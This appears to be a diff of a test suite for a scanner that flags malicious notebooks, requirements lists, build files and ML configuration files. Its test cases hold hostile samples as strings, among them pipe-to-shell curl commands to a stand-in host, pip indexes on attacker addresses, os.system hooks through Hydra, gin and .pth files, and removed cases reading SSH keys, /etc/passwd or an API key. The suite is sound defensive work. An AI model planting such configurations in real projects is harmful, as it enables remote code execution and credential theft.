@@ -42,7 +42,10 @@ describe("an attack by a notebook", () => {
             worksheets: [{ cells: [{ cell_type: "code", input: [`!${COMMAND}`], outputs: [] }] }],
           }),
       },
-      { hope: "code in a hidden cell is decoded", bytes: () => notebook(`exec(__import__("base64").b64decode("${base64("import os;os.system('id')")}"))`) },
+      {
+        hope: "code in a hidden cell is decoded",
+        bytes: () => notebook(`exec(__import__("base64").b64decode("${base64("import os;os.system('id')")}"))`),
+      },
     ],
     "demo.ipynb",
   );
@@ -51,14 +54,26 @@ describe("an attack by a notebook", () => {
 describe("an attack by requirements", () => {
   failing(
     [
-      { hope: "the address stands on the next line", bytes: () => "--index-url \\\n  http://203.0.113.7/simple\nnumpy\n" },
+      {
+        hope: "the address stands on the next line",
+        bytes: () => "--index-url \\\n  http://203.0.113.7/simple\nnumpy\n",
+      },
       { hope: "an option is abbreviated", bytes: () => "--extra-index http://203.0.113.7/simple\n" },
       { hope: "a short option has no space", bytes: () => "-ihttp://203.0.113.7/simple\n" },
-      { hope: "a direct reference follows the name", bytes: () => "numpy @ https://203.0.113.7/numpy.whl ; python_version > '3'\n" },
+      {
+        hope: "a direct reference follows the name",
+        bytes: () => "numpy @ https://203.0.113.7/numpy.whl ; python_version > '3'\n",
+      },
       { hope: "another list is fetched", bytes: () => "-r http://203.0.113.7/requirements.txt\n" },
-      { hope: "the source is git over ssh in the short form", bytes: () => "-e git+git@evil.example:owner/x.git#egg=numpy\n" },
+      {
+        hope: "the source is git over ssh in the short form",
+        bytes: () => "-e git+git@evil.example:owner/x.git#egg=numpy\n",
+      },
       { hope: "the scheme is in capitals", bytes: () => "numpy @ HTTPS://203.0.113.7/x.whl\n" },
-      { hope: "the host is hidden behind user and password", bytes: () => "git+https://github.com@203.0.113.7/x.git\n" },
+      {
+        hope: "the host is hidden behind user and password",
+        bytes: () => "git+https://github.com@203.0.113.7/x.git\n",
+      },
       { hope: "the host is a number", bytes: () => "https://3405803783/x.whl\n" },
       { hope: "the list is in UTF-16", bytes: () => Buffer.from("\ufeff-i http://203.0.113.7/simple\n", "utf16le") },
       { hope: "a comment sign hides the address", bytes: () => "numpy#egg @ https://203.0.113.7/x.whl\n" },
@@ -148,30 +163,8 @@ describe("an attack by a build file", () => {
     {
       hope: "a workflow of the forge runs a command",
       name: "build.yml",
-      bytes: () => `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          ${COMMAND}\n`,
-    },
-    {
-      hope: "a .pth file runs a line of Python",
-      name: "zz.pth",
-      bytes: () => `import os; os.system("${COMMAND}")\n`,
-      least: "high",
-    },
-    {
-      hope: "a .pth file runs a line of Python behind a byte-order mark",
-      name: "zz.pth",
-      bytes: () => `\ufeffimport os; os.system("${COMMAND}")\n`,
-      least: "high",
-    },
-    {
-      hope: "a .pth file runs a line of Python behind many paths",
-      name: "zz.pth",
-      bytes: () => `${"some/path\n".repeat(8000)}import os; os.system("${COMMAND}")\n`,
-      least: "high",
-    },
-    {
-      hope: "a Modelfile takes its weights from a secret file",
-      name: "Modelfile",
-      bytes: () => "FROM ./model.gguf\nTEMPLATE \"\"\"{{ .Prompt }}\"\"\"\nADAPTER /root/.ssh/id_rsa\n",
+      bytes: () =>
+        `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          ${COMMAND}\n`,
     },
     {
       hope: "a Windows shortcut script downloads and runs",
@@ -202,12 +195,16 @@ describe("an attack by a configuration", () => {
     {
       hope: "a pickle in base64 is folded over lines of YAML",
       name: "config.yaml",
-      bytes: () => `state: >\n${MALICE.replace(/.{20}/g, "  $&\n")}\n`,
+      bytes: () => `state: >\n${MALICE.replace(/.{1,20}/g, "  $&\n")}\n`,
     },
     { hope: "YAML holds a pickle as !!binary", name: "config.yaml", bytes: () => `state: !!binary ${MALICE}\n` },
     { hope: "a pickle in base64 is a whole file", name: "model.b64", bytes: () => MALICE },
     { hope: "a pickle in base64 under a pickle's name", name: "model.pkl", bytes: () => MALICE },
-    { hope: "a pickle in hexadecimal is a value of JSON", name: "state.json", bytes: () => JSON.stringify({ state: Buffer.from(p.osSystem()).toString("hex") }) },
+    {
+      hope: "a pickle in hexadecimal is a value of JSON",
+      name: "state.json",
+      bytes: () => JSON.stringify({ state: Buffer.from(p.osSystem()).toString("hex") }),
+    },
     {
       hope: "a pickle of protocol 0 is a value of JSON",
       name: "state.json",
@@ -235,12 +232,6 @@ describe("an attack by a configuration", () => {
         JSON.stringify({ lc: 1, type: "constructor", id: ["subprocess", "Popen"], kwargs: { args: ["id"] } }),
     },
     {
-      hope: "LangChain hands out a secret",
-      name: "chain.json",
-      bytes: () =>
-        JSON.stringify({ lc: 1, type: "constructor", id: ["langchain", "llms", "openai", "OpenAI"], kwargs: { openai_api_base: "http://203.0.113.7/", openai_api_key: { lc: 1, type: "secret", id: ["OPENAI_API_KEY"] } } }),
-    },
-    {
       hope: "LangChain renders a prompt with Jinja",
       name: "prompt.json",
       bytes: () =>
@@ -251,9 +242,15 @@ describe("an attack by a configuration", () => {
         }),
     },
     {
-      hope: "LangChain runs Python that a model writes",
+      hope: "LangChain's chain allows itself dangerous code",
       name: "chain.json",
-      bytes: () => JSON.stringify({ _type: "pal_chain", python_globals: null, allow_dangerous_code: true }),
+      bytes: () => JSON.stringify({ _type: "pal_chain", allow_dangerous_code: true }),
+    },
+    {
+      hope: "Hydra's target comes from the environment, with a value for those who have none",
+      name: "config.yaml",
+      bytes: () => "model:\n  _target_: ${oc.env:MODEL_CLASS,os.system}\n  command: id\n",
+      least: "high",
     },
     {
       hope: "Hydra's target is resolved by an interpolation",
@@ -288,7 +285,7 @@ describe("an attack by a configuration", () => {
     {
       hope: "Hydra's target is in a list of defaults",
       name: "config.yaml",
-      bytes: () => "callbacks:\n  - - - _target_: builtins.exec\n        _args_: [\"import os\"]\n",
+      bytes: () => 'callbacks:\n  - - - _target_: builtins.exec\n        _args_: ["import os"]\n',
       least: "high",
     },
     {
@@ -343,29 +340,19 @@ describe("an attack by a configuration", () => {
       least: "high",
     },
     {
-      hope: "auto_map takes its code from a Python file given with its path",
-      name: "config.json",
-      bytes: () => JSON.stringify({ auto_map: { AutoModel: "../../evil.modeling.Evil" } }),
-    },
-    {
-      hope: "auto_map is a text and no object",
+      hope: "auto_map is a list, as tokenizers of old have it",
       name: "processor_config.json",
-      bytes: () => JSON.stringify({ auto_map: "evil/repo--modeling.Evil" }),
-    },
-    {
-      hope: "auto_map names a commit of another repository",
-      name: "config.json",
-      bytes: () => JSON.stringify({ auto_map: { AutoModel: "evil/re po--modeling.Evil" } }),
-    },
-    {
-      hope: "the adapter's base model is an address",
-      name: "adapter_config.json",
-      bytes: () => JSON.stringify({ peft_type: "LORA", base_model_name_or_path: "http://203.0.113.7/model" }),
+      bytes: () => JSON.stringify({ auto_map: ["evil/repo--modeling.Evil", null] }),
     },
     {
       hope: "a quantisation names a module to import",
       name: "config.json",
-      bytes: () => JSON.stringify({ model_type: "x", quantization_config: { quant_method: "custom", modules: ["os.system"] }, trust_remote_code: true }),
+      bytes: () =>
+        JSON.stringify({
+          model_type: "x",
+          quantization_config: { quant_method: "custom", modules: ["os.system"] },
+          trust_remote_code: true,
+        }),
     },
     {
       hope: "an environment for conda takes packages from an address",
@@ -385,7 +372,8 @@ describe("an attack by a configuration", () => {
     {
       hope: "bentofile.yaml runs a script from outside",
       name: "bentofile.yaml",
-      bytes: () => "service: service:svc\ndocker:\n  setup_script: /tmp/x.sh\npython:\n  index_url: http://203.0.113.7/simple\n  packages: [numpy]\n",
+      bytes: () =>
+        "service: service:svc\ndocker:\n  setup_script: /tmp/x.sh\npython:\n  index_url: http://203.0.113.7/simple\n  packages: [numpy]\n",
     },
     {
       hope: "cog.yaml runs a command",
@@ -395,12 +383,17 @@ describe("an attack by a configuration", () => {
     {
       hope: "spaCy's configuration names a function of the system",
       name: "config.cfg",
-      bytes: () => '[initialize.before_init]\n@callbacks = "os.system"\n\n[x]\ncmd = "curl http://203.0.113.7/x | sh"\n',
+      bytes: () =>
+        '[initialize.before_init]\n@callbacks = "os.system"\n\n[x]\ncmd = "curl http://203.0.113.7/x | sh"\n',
     },
     {
       hope: "AllenNLP's configuration imports a package and names a type",
       name: "config.json",
-      bytes: () => JSON.stringify({ dataset_reader: { type: "os.system" }, model: { type: "from_archive", archive_file: "http://203.0.113.7/m.tar.gz" } }),
+      bytes: () =>
+        JSON.stringify({
+          dataset_reader: { type: "os.system" },
+          model: { type: "from_archive", archive_file: "http://203.0.113.7/m.tar.gz" },
+        }),
     },
     {
       hope: "an ONNX Runtime configuration loads a library",
@@ -481,11 +474,6 @@ describe("an attack by a configuration", () => {
       hope: "gin's configuration imports a module and binds a function",
       name: "operative_config.gin",
       bytes: () => "import os\nx.command = @os.system()\nos.system.command = 'curl http://203.0.113.7/x | sh'\n",
-    },
-    {
-      hope: "a Jsonnet configuration reads a file",
-      name: "config.jsonnet",
-      bytes: () => 'local x = importstr "/etc/passwd"; {"a": x}',
     },
   ]);
 });
